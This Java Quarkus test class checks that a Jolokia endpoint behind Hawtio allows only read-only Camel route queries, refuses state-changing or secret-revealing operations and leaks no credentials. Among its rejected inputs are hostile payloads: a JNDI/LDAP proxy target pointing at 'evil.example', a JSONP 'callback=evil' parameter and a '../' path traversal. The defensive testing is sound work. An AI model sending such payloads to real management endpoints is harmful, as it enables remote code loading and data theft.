package io.serai.hawtio;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.serai.support.PostgresResource;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@WithTestResource(PostgresResource.class)
@DisplayName("Jolokia, behind Hawtio,")
class JolokiaTest {

    private static final String CONTEXT = "org.apache.camel:context=serai,type=context,name=\"serai\"";
    private static final String ROUTE = "org.apache.camel:context=serai,type=routes,name=\"sweep\"";

    private final ObjectMapper mapper = new ObjectMapper();

    @Inject
    @ConfigProperty(name = "serai.encryption-key")
    String encryptionKey;

    @Test
    @DisplayName("tells of exactly the routes of the files")
    void tellsOfTheRoutes() throws Exception {
        JsonNode answer = ask(Map.of("type", "exec", "mbean", CONTEXT, "operation", "dumpRoutesAsXml()"));
        assertThat(answer.path("status").asInt()).isEqualTo(200);
        assertThat(WrittenRoutes.inXml(answer.path("value").asText())).isEqualTo(WrittenRoutes.inFiles());
    }

    @Test
    @DisplayName("tells the figures of every route and step as Camel does, without asking each step for each route")
    void tellsTheFigures() throws Exception {
        List<Boolean> withSteps = List.of(true, true);
        String all = ask(Map.of(
                        "type", "exec", "mbean", CONTEXT, "operation", "dumpRoutesStatsAsXml", "arguments", withSteps))
                .path("value")
                .asText();
        String one = ask(Map.of(
                        "type",
                        "exec",
                        "mbean",
                        ROUTE,
                        "operation",
                        "dumpRouteStatsAsXml(boolean,boolean)",
                        "arguments",
                        withSteps))
                .path("value")
                .asText();
        assertThat(named("routeStat", all))
                .containsExactlyInAnyOrderElementsOf(WrittenRoutes.inFiles().stream()
                        .map(WrittenRoutes.Written::id)
                        .toList());
        assertThat(named("processorStat", all)).hasSizeGreaterThan(400).doesNotHaveDuplicates();
        int route = all.indexOf("<routeStat id=\"sweep\"");
        String sweep = all.substring(route, all.indexOf("</routeStat>", route));
        assertThat(named("processorStat", sweep)).isNotEmpty().isEqualTo(named("processorStat", one));
        // Camel adds up along one route what it leaves out where it tells of all of them.
        assertThat(attributes(steps(sweep)))
                .isEqualTo(attributes(steps(one).replaceAll(" accumulatedProcessingTime=\"[^\"]*\"", "")));
    }

    private static String steps(String xml) {
        return xml.substring(xml.indexOf("<processorStats>"), xml.indexOf("</processorStats>"));
    }

    private static List<String> named(String element, String xml) {
        return found("<" + element + " id=\"([^\"]+)\"", xml);
    }

    private static List<String> attributes(String xml) {
        return found(" ([A-Za-z]+)=\"", xml);
    }

    private static List<String> found(String pattern, String xml) {
        return Pattern.compile(pattern)
                .matcher(xml)
                .results()
                .map(match -> match.group(1))
                .toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "context  | stop",
                "context  | stop()",
                "context  | suspend()",
                "context  | dumpRoutesAsXml",
                "context  | dumpRoutesAsXml(boolean)",
                "context  | dumpRoutesAsXml(boolean,boolean)",
                "context  | sendStringBody(java.lang.String,java.lang.String)",
                "context  | requestBody(java.lang.String,java.lang.Object)",
                "context  | createEndpoint(java.lang.String)",
                "context  | addOrUpdateRoutesFromXml(java.lang.String)",
                "context  | setTracing(java.lang.Boolean)",
                "routes   | stop()",
                "routes   | remove()",
                "routes   | updateRouteFromXml(java.lang.String)",
                "routes   | setRouteGroup(java.lang.String)",
                "services | dumpAllTracedMessagesAsXml()",
            })
    @DisplayName("calls nothing that changes anything or shows messages")
    void refusesToAct(String type, String operation) throws Exception {
        String mbean = type.equals("context") ? CONTEXT : ROUTE.replace("type=routes", "type=" + type);
        assertRefused(ask(Map.of("type", "exec", "mbean", mbean, "operation", operation)));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "java.lang:type=Memory | gc",
                "java.lang:type=Threading | dumpAllThreads(boolean,boolean)",
                "com.sun.management:type=DiagnosticCommand | vmSystemProperties",
                "com.sun.management:type=HotSpotDiagnostic | dumpHeap(java.lang.String,boolean)",
                "java.util.logging:type=Logging | setLoggerLevel(java.lang.String,java.lang.String)",
                "JMImplementation:type=MBeanServerDelegate | getMBeanInfo()",
                "jolokia:type=Config,agent=serai | isDebug()",
                "*:* | dumpRoutesAsXml()",
                "*:type=context,* | dumpRoutesAsXml()",
                "org.apache.camel:context=serai,type=tracer,name=BacklogTracer | dumpAllTracedMessagesAsXml()",
                "org.apache.camel:context=serai,type=tracer,name=BacklogDebugger | enableDebugger()",
                "org.apache.camel:context=serai,type=endpoints,name=\"x\" | browseAllMessagesAsXml(java.lang.Boolean)",
            })
    @DisplayName("calls nothing beside the routes")
    void refusesOtherObjects(String mbean, String operation) throws Exception {
        assertRefused(ask(Map.of("type", "exec", "mbean", mbean, "operation", operation)));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "java.lang:type=Runtime | SystemProperties",
                "java.lang:type=Runtime | InputArguments",
                "java.lang:type=* | SystemProperties",
                "com.sun.management:type=HotSpotDiagnostic | DiagnosticOptions",
                "org.apache.camel:context=serai,type=tracer,name=BacklogTracer | Enabled",
            })
    @DisplayName("reads nothing that may hold secrets or messages")
    void refusesToRead(String mbean, String attribute) throws Exception {
        assertRefused(ask(Map.of("type", "read", "mbean", mbean, "attribute", attribute)));
    }

    @Test
    @DisplayName("says no secret, whatever is read and listed")
    void saysNoSecret() throws Exception {
        for (Map<String, Object> question : List.<Map<String, Object>>of(
                Map.of("type", "read", "mbean", "*:*", "config", Map.of("ignoreErrors", true)),
                Map.of("type", "list"),
                Map.of("type", "search", "mbean", "*:*"),
                Map.of("type", "version"))) {
            Response answer = post(mapper.writeValueAsString(question));
            assertThat(answer.path("status").toString()).isEqualTo("200");
            assertThat(answer.asString()).doesNotContain(encryptionKey, "serai-dev-admin", "jdbc:postgresql");
        }
        JsonNode found = ask(Map.of("type", "search", "mbean", "*:*")).path("value");
        assertThat(found).isNotEmpty().allSatisfy(name -> assertThat(name.asText())
                .matches("(java\\.lang|org\\.apache\\.camel):.*")
                .doesNotContain("type=tracer"));
    }

    @Test
    @DisplayName("says beside each operation whether it may be called")
    void saysWhatIsAllowed() throws Exception {
        JsonNode operations = ask(Map.of(
                        "type", "list", "path", "org.apache.camel/context=serai,name=\"serai\",type=context"))
                .path("value")
                .findPath("op");
        assertThat(operations.path("stop").path("canInvoke").isBoolean()).isTrue();
        assertThat(operations.path("stop").path("canInvoke").asBoolean()).isFalse();
        assertThat(operations.path("dumpRoutesAsXml"))
                .anySatisfy(overload ->
                        assertThat(overload.path("canInvoke").asBoolean()).isTrue())
                .anySatisfy(overload ->
                        assertThat(overload.path("canInvoke").asBoolean()).isFalse());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{",
                "5",
                "\"x\"",
                "{}",
                "[1]",
                "[[{\"type\": \"version\"}]]",
                "{\"type\": \"write\", \"mbean\": \"java.lang:type=Memory\", \"attribute\": \"Verbose\", \"value\": true}",
                "{\"type\": \"WRITE\", \"mbean\": \"java.lang:type=Memory\", \"attribute\": \"Verbose\", \"value\": true}",
                "[{\"type\": \"version\"}, {\"type\": \"write\", \"mbean\": \"java.lang:type=Memory\"}]",
                "{\"type\": \"notification\", \"command\": \"register\"}",
                "{\"type\": \"config\", \"command\": \"debug\"}",
                "{\"type\": \"read\", \"type\": \"write\", \"mbean\": \"java.lang:type=Memory\"}",
                "{\"type\": \"version\", \"target\": {\"url\": \"service:jmx:rmi:///jndi/ldap://evil.example/x\"}}",
                "{\"type\": \"read\", \"mbean\": 5}",
                "{\"type\": \"read\", \"mbean\": \"nonsense\"}",
                "{\"type\": \"read\", \"mbean\": \"java.lang:type=Memory\", \"attribute\": {}}",
                "{\"type\": \"read\", \"mbean\": \"java.lang:type=Memory\", \"config\": 5}",
                "{\"type\": \"exec\", \"mbean\": \"java.lang:type=Memory\", \"operation\": []}",
                "{\"type\": \"exec\", \"mbean\": \"java.lang:type=Memory\", \"arguments\": \"x\"}",
                "{\"type\": \"list\", \"path\": 5}",
            })
    @DisplayName("is not even asked what it should not hear")
    void refusesOtherQuestions(String question) {
        post(question).then().statusCode(400).contentType("application/problem+json");
    }

    @Test
    @DisplayName("is not asked too much at once, nor something nested without end")
    void refusesTooMuch() {
        post("[" + "{\"type\": \"version\"},".repeat(500) + "{\"type\": \"version\"}]")
                .then()
                .statusCode(400);
        post("[{\"type\": \"list\"}, {\"type\": \"list\"}]").then().statusCode(400);
        post("[{\"type\": \"list\"}, {\"type\": \"read\"}]").then().statusCode(400);
        post("[{\"type\": \"read\", \"mbean\": \"*:*\"}, {\"type\": \"read\", \"mbean\": \"java.lang:type=*\"}]")
                .then()
                .statusCode(400);
        post("{\"type\": \"list\", \"config\": {\"listCache\": false}}").then().statusCode(400);
        assertThat(post("{\"type\": \"list\"}").asByteArray()).hasSizeLessThan(2_000_000);
        post("[".repeat(100) + "]".repeat(100)).then().statusCode(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/hawtio/jolokia/read/java.lang:type=Runtime",
                "/hawtio/jolokia/exec/java.lang:type=Memory/gc",
                "/hawtio/jolokia/list",
                "/hawtio/jolokia//read/java.lang:type=Runtime",
                "/hawtio/jolokia/version/../read/java.lang:type=Runtime",
            })
    @DisplayName("says nothing but its version to a GET, which needs no proof of where it comes from")
    void saysItsVersionAlone(String path) {
        given().auth()
                .oauth2("serai-dev-admin")
                .urlEncodingEnabled(false)
                .get(path)
                .then()
                .statusCode(404);
        Response version = given().auth()
                .oauth2("serai-dev-admin")
                .get("/hawtio/jolokia?p=read/java.lang:type=Runtime&callback=evil&mimeType=text/html");
        assertThat(version.contentType()).isEqualTo("application/json");
        assertThat(version.asString())
                .startsWith("{")
                .contains("\"agent\":")
                .doesNotContain("evil", "SystemProperties");
        assertThat(version.header("Access-Control-Allow-Origin")).isNull();
    }

    private static void assertRefused(JsonNode answer) {
        assertThat(answer.path("status").asInt()).as(answer.toString()).isEqualTo(403);
        assertThat(answer.has("value")).isFalse();
        assertThat(answer.has("stacktrace")).isFalse();
    }

    private JsonNode ask(Map<String, Object> question) throws Exception {
        Response answer = post(mapper.writeValueAsString(question));
        assertThat(answer.statusCode()).isEqualTo(200);
        return mapper.readTree(answer.asString());
    }

    private static Response post(String question) {
        return given().auth()
                .oauth2("serai-dev-admin")
                .contentType("application/json")
                .body(question)
                .post("/hawtio/jolokia");
    }
}
